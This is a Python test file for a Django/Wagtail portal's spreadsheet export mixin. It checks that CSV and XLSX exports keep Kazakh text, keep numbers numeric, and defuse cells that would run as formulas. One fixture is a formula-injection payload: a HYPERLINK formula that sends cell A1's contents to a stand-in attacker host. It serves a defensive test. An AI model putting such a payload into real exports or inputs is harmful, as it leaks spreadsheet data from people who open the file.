import csv
import io
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook
from wagtail.admin.views.generic.base import BaseListingView

from mura.institutions.tests.factories import UserFactory
from mura.portal.exports import UTF8_BOM, SafeSpreadsheetExportMixin
from mura.search.models import SearchQueryLog

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


class BalanceExport(SafeSpreadsheetExportMixin, BaseListingView):
    list_export = ["name", "note", "balance"]
    export_headings = {"name": "Аты", "note": "Ескерту", "balance": "Сальдо"}


ROWS = [
    SimpleNamespace(name="Әлия Жұмабекқызы", note=FORMULA, balance=-12),
    SimpleNamespace(name="+7 701 000 00 00", note="@SUM(1+1)", balance=3),
    SimpleNamespace(name="-2+3", note="\tcmd", balance=0),
    SimpleNamespace(name="Қарапайым", note="\r=1", balance=7),
]


def _csv_bytes(view, rows) -> bytes:
    return b"".join(view.stream_csv(rows))


def test_csv_starts_with_a_bom_and_keeps_kazakh():
    body = _csv_bytes(BalanceExport(), ROWS)
    assert body.startswith(UTF8_BOM.encode())
    text = body.decode("utf-8-sig")
    assert text.splitlines()[0] == "Аты,Ескерту,Сальдо"
    assert "Әлия Жұмабекқызы" in text


def test_csv_cells_that_would_run_as_formulas_are_text():
    rows = list(
        csv.reader(io.StringIO(_csv_bytes(BalanceExport(), ROWS).decode("utf-8-sig")))
    )
    cells = [cell for row in rows[1:] for cell in row[:2]]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert rows[1][1] == "'" + FORMULA
    assert rows[2] == ["'+7 701 000 00 00", "'@SUM(1+1)", "3"]


def test_a_negative_number_in_a_numeric_column_stays_a_number():
    rows = list(
        csv.reader(io.StringIO(_csv_bytes(BalanceExport(), ROWS).decode("utf-8-sig")))
    )
    assert rows[1][2] == "-12"
    output = io.BytesIO()
    BalanceExport().write_xlsx(ROWS, output)
    sheet = load_workbook(io.BytesIO(output.getvalue())).active
    first = list(next(sheet.iter_rows(min_row=2, max_row=2)))
    assert first[2].value == -12 and first[2].data_type == "n"
    # XLSX has typed cells: the formula is stored as a text cell, never as a formula.
    assert first[1].value == FORMULA and first[1].data_type == "s"


@pytest.mark.django_db
def test_not_found_report_exports_a_search_query_as_text(client):
    SearchQueryLog.objects.create(query=FORMULA, result_count=0, took_ms=3)
    SearchQueryLog.objects.create(query="Абай жолы", result_count=0, took_ms=3)
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    response = client.get("/admin/reports/not-found/?export=csv")
    body = b"".join(response.streaming_content)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith(UTF8_BOM.encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert ["'" + FORMULA, "1"] == rows[1][:2] or ["'" + FORMULA, "1"] == rows[2][:2]
    assert any(row[0] == "Абай жолы" for row in rows[1:])
